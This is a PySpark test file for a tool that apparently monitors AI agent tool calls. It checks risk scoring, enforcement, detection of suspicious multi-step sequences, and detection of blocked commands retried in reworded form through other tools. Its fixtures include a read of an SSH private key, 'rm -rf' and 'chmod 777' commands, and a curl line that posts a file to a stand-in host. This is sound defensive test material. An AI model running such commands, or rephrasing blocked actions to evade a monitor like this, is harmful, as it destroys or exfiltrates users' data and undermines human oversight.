"""Session operators against plain sequential versions on random sessions."""

import random

from pyspark.sql import functions as F

from tidewarden.operators import correlate, sequences, sessions
from tidewarden.operators.score import score_events

EVENT = "event_id long, session_id long, micros long, etype string, tool_name string, path string, command string, content string, trust string"
SECOND = 1_000_000
KINDS = [
    ("read_file", "/h/.ssh/id_rsa", None), ("bash", None, "rm -rf /var/x"), ("bash", None, "ls"), ("http_request", None, None), ("write_file", "/tmp/a", None),
    ("bash", None, "curl -d @/tmp/a http://x"), ("bash", None, "whoami"), ("bash", None, "sudo chmod 777 x"), ("bash", None, "git commit"),
]


def random_events(spark, seed, n=160, users=4):
    r = random.Random(seed)
    rows = [(i, r.randrange(users), r.randrange(400) * SECOND, r.choice(["pre_action", "post_action"]), *r.choice(KINDS), None, r.choice(["standard", "privileged", None])) for i in range(n)]
    return spark.createDataFrame(rows, EVENT)


def by_session(rows):
    out = {}
    for r in sorted(rows, key=lambda r: (r.micros, r.event_id)):
        out.setdefault(r.session_id, []).append(r)
    return out


def _rank(a, b, c, d, e, f, t):
    """The level of one row, step by step."""
    score = round((t.weight_max * max(a, b, c) + t.weight_d4 * d + t.weight_d5 * e) * (1.0 + t.injection * f / 3.0), 4)
    rank = 3 if score >= t.critical else 2 if score >= t.high else 1 if score >= t.medium else 0
    if (a == 3 and b >= 2) or c == 3:
        rank = 3
    elif a == b == c == 0:
        rank = 0
    return 1 if f >= 2.0 and rank == 0 else rank


def test_accumulation_equals_a_sequential_count(spark):
    from tidewarden.functions.scoring import Thresholds

    rows = sessions.accumulation(random_events(spark, 1)).collect()
    for events in by_session(rows).values():
        high = 0
        for r in events:
            assert r.prior_high == high
            d4 = 2 if high >= 5 else 1 if high >= 2 else 0
            rank = _rank(r.d1, r.d2, r.d3, d4, r.d5, r.d6, Thresholds())
            assert (r.d4, r.risk_rank) == (d4, rank)
            high += rank >= 2


def test_frequency_counts_every_tool_and_ends_at_the_row(spark):
    rows = sessions.frequency_d4(random_events(spark, 2, 300, 2), 1.0, 3, 12, 40).collect()
    for events in by_session(rows).values():
        for i, r in enumerate(events):
            past = events[: i + 1]
            count = lambda width: max(sum(e.tool_name == t and e.micros >= r.micros - width * SECOND for e in past) for t in {e.tool_name for e in past})  # noqa: B023, E731
            total = sum(e.micros >= r.micros - 60 * SECOND for e in past)
            expected = 2 if count(5) >= 3 else 1 if count(60) >= 12 or total >= 40 else 0
            assert r.freq_d4 == expected


def test_enforcement_equals_a_state_machine(spark):
    rows = sessions.enforcement(score_events(random_events(spark, 3)), 3, 20.0).join(score_events(random_events(spark, 3)).select("event_id", "risk_rank"), "event_id").collect()
    for events in by_session(rows).values():
        high, last, active = 0, None, False
        for r in events:
            if active and r.micros - last >= 20 * SECOND:
                active = False
            assert r.enforced == active
            high += r.risk_rank >= 2
            triggers = False
            if high >= 3:
                triggers, active, last = not active, True, r.micros
            assert r.triggers == triggers


def test_sequences_equal_a_greedy_walk(spark):
    rows = random_events(spark, 4, 300, 3)
    flags = rows.select("*", *[f.alias(n) for n, f in sequences.step_flags(rows).items()]).collect()
    expected = set()
    for session, events in by_session(flags).items():
        for s in sequences.SEQUENCES:
            seen = set()
            for i, r in enumerate(events):
                window = [e for e in events[max(0, i - s.within_events + 1) : i + 1] if e.micros >= r.micros - s.within_time * SECOND]
                if len(s.steps) == 1:
                    ids = [e.event_id for e in window if e[s.steps[0]]][: s.least]
                    done = len(ids) == s.least
                else:
                    ids = []
                    for e in window:
                        if len(ids) < len(s.steps) and e[s.steps[len(ids)]]:
                            ids.append(e.event_id)
                    done = len(ids) == len(s.steps)
                if done and frozenset(ids) not in seen:
                    seen.add(frozenset(ids))
                    expected.add((session, s.id, r.event_id, ",".join(map(str, sorted(ids)))))
    got = {(r.session_id, r.sequence_id, r.trigger_event_id, r.matched) for r in sequences.detect_trajectories(rows).collect()}
    assert got == expected and got


def test_window_bounds_of_sequences(spark):
    def run(gap, between):
        rows = [(0, 1, 0, "pre_action", "read_file", "/h/id_rsa", None, None, None)]
        rows += [(1 + i, 1, 1 + i, "pre_action", "list_dir", None, None, None, None) for i in range(between)]
        rows.append((99, 1, gap, "pre_action", "http_request", None, None, None, None))
        return sequences.detect_trajectories(spark.createDataFrame(rows, EVENT)).count()

    assert run(60 * SECOND, 0) == 1  # on the bound
    assert run(60 * SECOND + 1, 0) == 0  # one past it
    assert run(10 * SECOND, 3) == 1 and run(10 * SECOND, 4) == 0  # five events, six events


def test_sampling_equals_a_fold(spark):
    rows = random_events(spark, 5, 400, 3)
    expected = set()
    last, dropped = {}, {}
    for r in sorted(rows.collect(), key=lambda r: (r.micros, r.event_id)):
        key = (r.session_id, r.tool_name)
        if key not in last or r.micros - last[key] >= 7 * SECOND:
            # the count restarts with every pause of the whole window
            expected.add((*key, r.event_id))
            last[key], dropped[key] = r.micros, 0
        else:
            dropped[key] = dropped.get(key, 0) + 1
    got = {(r.session_id, r.tool_name, r.event_id) for r in correlate.sampled_events(rows, 7.0).collect()}
    assert got == expected


def test_as_of_takes_the_last_state_strictly_before(spark):
    events = spark.createDataFrame([(1, 1, 10), (2, 1, 20), (3, 2, 20)], "event_id long, session_id long, micros long")
    states = spark.createDataFrame([(1, 5, "a"), (1, 20, "b"), (1, 15, None)], "session_id long, micros long, state string")
    got = {r.event_id: r.state for r in sessions.as_of(events, states).collect()}
    assert got == {1: "a", 2: "a", 3: None}


def test_empty_tables(spark):
    none = spark.createDataFrame([], EVENT)
    scored = score_events(none)
    for out in (sessions.session_risk(scored), sessions.accumulation(none), sequences.detect_trajectories(none), sequences.suspicious_history(none), correlate.detect_bypass(scored), sessions.frequency_d4(none)):
        assert out.count() == 0


def test_session_operators_shuffle_once(spark):
    plan = sessions.accumulation(random_events(spark, 6))._jdf.queryExecution().executedPlan().toString()
    assert plan.count("Exchange hashpartitioning") == 1
    assert F is not None


def test_bypass_against_all_pairs(spark):
    import random

    from pyspark.sql import functions as F

    from tidewarden.operators import correlate

    r = random.Random(5)
    words = [f"w{k}" for k in range(40)]
    long = [" ".join(r.sample(words, 26)) for _ in range(4)]

    def command():
        kind = r.random()
        if kind < 0.3:
            return r.choice(["rm -rf /a", "bash -c 'rm -rf /a'", "RM -rf /a", "chmod 777 x", "ls", "wipe and delete it", "delete all", ""])
        base = r.choice(long).split()
        for _ in range(r.randint(0, 2)):
            base[r.randrange(len(base))] = r.choice(words)
        return " ".join(base)

    rows = [(i, r.randint(1, 4), r.randint(1, 60) * 1_000_000, r.choice(["pre_action", "pre_action", "post_action"]), r.choice(["bash", "shell", "exec"]), r.choice([None, "/p"]), command(), None, r.choice(["block", "allow"]), r.choice([1, 2, 3])) for i in range(400)]
    schema = "event_id long, session_id long, micros long, etype string, tool_name string, path string, command string, content string, verdict string, risk_rank int"
    scored = spark.createDataFrame(rows, schema)
    prints = [x.asDict() for x in correlate.fingerprints(scored).where("etype = 'pre_action'").collect()]

    def fires(p, c):
        other, a, b = p["tool_name"] != c["tool_name"], set(p["tokens"]), set(c["tokens"])
        return (
            "exact" if p["raw"] == c["raw"] else ("normalized_cross_tool" if other else "normalized_same_tool") if p["norm"] == c["norm"]
            else "intent_cross_tool" if p["intent"] == c["intent"] != "non-destructive" and other else "similar_cross_tool" if other and a | b and len(a & b) / len(a | b) >= 0.92 else None
        )

    for ttl, most in ((20.0, 256), (1e6, 3)):
        expected = {}
        for c in prints:
            earlier = sorted((p for p in prints if p["session_id"] == c["session_id"] and p["verdict"] == "block" and p["risk_rank"] >= 2 and (p["micros"], p["event_id"]) < (c["micros"], c["event_id"])), key=lambda p: (p["micros"], p["event_id"]))
            for p in reversed(earlier[-most:]):
                if p["micros"] < c["micros"] - ttl * 1e6:
                    break
                rule = fires(p, c)
                if rule:
                    expected[c["event_id"]] = (p["event_id"], rule)
                    break
        got = {x.event_id: (x.prior_event_id, x.rule) for x in correlate.detect_bypass(scored, ttl, most).select(*map(F.col, ("event_id", "prior_event_id", "rule"))).collect()}
        assert got == expected and len({x for _, x in expected.values()}) == 5
        if most == 256:
            # a replay in which matched events are blocked and become priors
            replay, kept = {}, {}
            for c in sorted(prints, key=lambda p: (p["micros"], p["event_id"])):
                earlier = kept.setdefault(c["session_id"], [])
                hit = next(((p["event_id"], rule) for p in reversed(earlier[-most:]) if p["micros"] >= c["micros"] - ttl * 1e6 and (rule := fires(p, c))), None)
                if hit:
                    replay[c["event_id"]] = hit
                if hit or (c["verdict"] == "block" and c["risk_rank"] >= 2):
                    earlier.append(c)
            rounds = correlate.detect_bypass_rounds(scored, ttl, most).collect()
            assert {x.event_id: (x.prior_event_id, x.rule) for x in rounds} == replay != expected and max(x.round for x in rounds) > 2


def test_blocks_give_the_rows_of_one_window(spark):
    """Every operator that takes blocks, at several sizes, with one session of a third of all rows."""
    from tidewarden.operators import blocks

    rows = random_events(spark, 7, 420, 3)
    r = random.Random(8)
    hot = spark.createDataFrame([(1000 + i, 77, r.randrange(40) * SECOND, "pre_action", *r.choice(KINDS), None, r.choice(["standard", None])) for i in range(210)], EVENT)
    rows = rows.unionByName(hot).unionByName(spark.createDataFrame([(2000 + i, None, i, "pre_action", *KINDS[i % 4], None, None) for i in range(60)], EVENT))
    raw, scored = rows.cache(), score_events(rows).cache()
    ops = {
        "accumulation": lambda x: sessions.accumulation(x).select("event_id", "session_id", "prior_high", "d4", "composite", "risk_level"),
        "risk": sessions.session_risk, "changes": sessions.risk_changes, "points": sessions.cumulative_points, "enforcement": lambda x: sessions.enforcement(x, 3, 5.0), "history": sequences.suspicious_history, "trajectories": sequences.detect_trajectories,
    }
    on = lambda name, raw, scored: raw if name in ("accumulation", "history", "trajectories") else scored
    expected = {name: sorted(map(str, op(on(name, raw, scored)).collect())) for name, op in ops.items()}
    for most in (11,):
        split, split_scored = blocks.split_long_sessions(raw, most).cache(), blocks.split_long_sessions(scored, most).cache()
        sizes = split.groupBy("session_id", "block").count().collect()
        assert sum(x["count"] for x in sizes) == rows.count() and max(x["count"] for x in sizes) <= max(3 * most, 40) and len(sizes) > 4
        for name, op in ops.items():
            assert sorted(map(str, op(on(name, split, split_scored)).collect())) == expected[name], (name, most)
    assert "block" in blocks.split_long_sessions(rows, 10_000).columns and blocks.split_long_sessions(rows.limit(0), 5).count() == 0


def test_short_blocks_need_few_partitions(spark):
    """Blocks of five rows lie in one range of Spark's, and what is made of the rows is stored with them."""
    from tidewarden.operators import blocks

    rows = random_events(spark, 9, 400, 2)
    calls = []
    split = blocks.split_long_sessions(rows, 5, lambda x: calls.append(x.columns) or x.select(*blocks.part(x), *blocks.ORDER), each=150)
    assert split.columns == ["session_id", "block", "micros", "event_id"] and all("block" in c for c in calls)
    got = split.collect()
    sizes = {}
    for x in sorted(got, key=lambda x: (str(x.session_id), x.micros, x.event_id)):
        sizes.setdefault((x.session_id, x.block), []).append((x.micros, x.event_id))
    assert len(got) == 400 and max(map(len, sizes.values())) <= 5
    for session in {s for s, _ in sizes}:
        ends = [(v[0], v[-1]) for (s, b), v in sorted(((k, v) for k, v in sizes.items() if k[0] == session), key=lambda x: x[0][1])]
        assert all(one[1] < two[0] for one, two in zip(ends, ends[1:]))
    assert split.where("block > 0").rdd.getNumPartitions() <= 2 * rows.rdd.getNumPartitions() + 3


def test_tails_reach_over_short_blocks(spark):
    from tidewarden.operators import blocks

    rows = spark.createDataFrame([(1, t, t, 1 + t // 2) for t in range(12)] + [(2, t, t, 0) for t in range(3)], "session_id long, micros long, event_id long, block int")
    got = blocks.with_tail(rows, 5).collect()
    for b in range(1, 7):
        assert sorted(x.micros for x in got if x.session_id == 1 and x.block == b and x._tail) == list(range(max(0, 2 * (b - 1) - 5), 2 * (b - 1)))
    assert not any(x._tail for x in got if x.session_id == 2)


def test_sequences_of_tools(spark):
    rows = [(0, 1, 0, "pre_action", "Web_Fetch", None, None, None, None), (1, 1, 1, "pre_action", "bash", None, "ls", None, None), (2, 1, 2, "pre_action", "read_file", "/h/id_rsa", None, None, None), (3, 1, 3, "pre_action", "sh", None, None, None, None)]
    chain = sequences.Sequence("fetch-then-run", "high", ("tool:web_fetch, curl", "sensitive_read", "tool:sh"), 5, 60.0)
    got = sequences.detect_trajectories(spark.createDataFrame(rows, EVENT), [chain]).collect()
    assert [(r.sequence_id, r.trigger_event_id, r.matched) for r in got] == [("fetch-then-run", 3, "0,2,3")]


def test_accumulation_reads_blocks_few_times(spark):
    """Blocks of any thresholds give the rows of one window, and their summaries don't nest: two readings of the rows, not one for each pair of phases."""
    from tidewarden.operators import blocks

    rows = random_events(spark, 12, 300, 2).cache()
    split = blocks.split_long_sessions(rows, 9).cache()
    one = lambda x, *p: sorted(map(str, sessions.accumulation(x, *p).select("event_id", "session_id", "prior_high", "d4", "composite").collect()))
    for p in ((2, 5), (3, 4), (1, 9)):
        assert one(split, *p) == one(rows, *p), p
    assert sessions.accumulation(sessions.phases(split))._jdf.queryExecution().optimizedPlan().collectLeaves().size() <= 2
